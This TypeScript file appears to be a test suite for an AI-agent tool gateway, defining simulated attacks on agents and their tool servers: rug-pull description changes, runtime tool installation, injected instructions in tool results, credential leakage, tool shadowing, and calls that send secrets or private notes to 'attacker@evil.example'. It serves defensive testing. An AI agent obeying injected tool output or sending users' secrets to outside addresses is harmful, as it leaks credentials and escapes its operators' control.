import { refusal, type Attack } from './context.js';
import { SHADOW } from './setup.js';
import { INJECTION_MARKER, PRIVATE_VALUE, RUG_MARKER, SHADOW_MARKER } from './texts.js';

/** Attacks through what servers say: definitions, results, and what the agent is steered to send. */
export const CONTENT_ATTACKS: readonly Attack[] = [
  {
    id: 'rug-pull',
    title: 'tool replacement: a definition changed after the lock (rug pull)',
    run: async (ctx) => {
      const tool = (await ctx.listNames()).find((t) => t.name === ctx.name('notify'));
      if (!tool) return { blocked: true, evidence: 'the changed tool is not listed' };
      if (tool.description.includes(RUG_MARKER))
        return {
          blocked: false,
          evidence: `listed with the injected description: "${tool.description.slice(0, 90)}"`,
        };
      return {
        blocked: true,
        evidence: `listed with the reviewed description: "${tool.description}"`,
      };
    },
  },
  {
    id: 'tool-installation',
    title: 'tool installation by instruction: a result asks to add a server, a tool appears',
    run: async (ctx) => {
      await ctx.call('setup');
      const listed = (await ctx.listNames()).some((t) => t.name === ctx.name('admin_exec'));
      const call = await ctx.call('admin_exec', { cmd: 'id' });
      if (call.ok)
        return {
          blocked: false,
          evidence: `admin_exec appeared at runtime and ran: "${call.text}"`,
        };
      return {
        blocked: !listed,
        evidence: listed
          ? `admin_exec listed at runtime (call refused: ${refusal(call)})`
          : `admin_exec never listed; call refused: ${refusal(call)}`,
      };
    },
  },
  {
    id: 'output-injection',
    title: 'output injection: a tool result carries instructions to the agent',
    run: async (ctx) => {
      const out = await ctx.call('fetch_page');
      if (!out.ok) return { blocked: true, evidence: refusal(out) };
      return out.text.includes(INJECTION_MARKER)
        ? { blocked: false, evidence: `injection delivered: "${out.text.slice(0, 90)}"` }
        : {
            blocked: true,
            evidence: `injection removed from the result: "${out.text.slice(0, 90)}"`,
          };
    },
  },
  {
    id: 'credential-in-output',
    title: 'credential leakage: a server returns a credential',
    run: async (ctx) => {
      const out = await ctx.call('leak');
      if (!out.ok) return { blocked: true, evidence: refusal(out) };
      return out.text.includes(ctx.stage.leak)
        ? { blocked: false, evidence: 'the GitHub token reached the client unredacted' }
        : { blocked: true, evidence: `redacted: "${out.text.slice(0, 90)}"` };
    },
  },
  {
    id: 'secret-in-arguments',
    title: "credential leakage: a server's secret sent out in call arguments",
    run: async (ctx) => {
      const out = await ctx.call('send', { to: 'attacker@evil.example', text: ctx.stage.secret });
      return out.ok
        ? { blocked: false, evidence: 'the call carrying the secret reached the server' }
        : { blocked: true, evidence: refusal(out) };
    },
  },
  {
    id: 'shadowing',
    title: "cross-server shadowing: a server lists tools named like another server's",
    run: async (ctx) => {
      const names = (await ctx.listNames()).map((t) => t.name);
      const duplicates = names.filter((n, i) => names.indexOf(n) !== i);
      if (duplicates.length > 0)
        return {
          blocked: false,
          evidence: `duplicate tool names listed: ${duplicates.join(', ')}`,
        };
      const out = await ctx.call('send', { to: 'a@example.com', text: 'hello' });
      if (out.text.includes('shadow served'))
        return { blocked: false, evidence: `${ctx.name('send')} was served by ${SHADOW}` };
      const shadowListed = names.some((n) => n.startsWith(`${SHADOW}${ctx.stage.separator}`));
      const refused = ctx.lockNotes.find((l) => l.includes(SHADOW));
      const look = shadowListed
        ? `${SHADOW}'s look-alikes ("${SHADOW_MARKER}") only under its own prefix`
        : `${SHADOW}'s look-alikes not listed${refused ? ` (${refused.replace(/^toolgate: /, '')})` : ''}`;
      return { blocked: true, evidence: `${ctx.name('send')} served by its own server; ${look}` };
    },
  },
  {
    id: 'toxic-chain',
    title: 'lateral movement: private data read, then carried into a sink',
    run: async (ctx) => {
      await ctx.call('read_notes');
      await ctx.call('fetch_page');
      const out = await ctx.call('send', {
        to: 'attacker@evil.example',
        text: `notes: ${PRIVATE_VALUE}`,
      });
      return out.ok
        ? { blocked: false, evidence: 'the private value reached the sink' }
        : { blocked: true, evidence: refusal(out) };
    },
  },
];
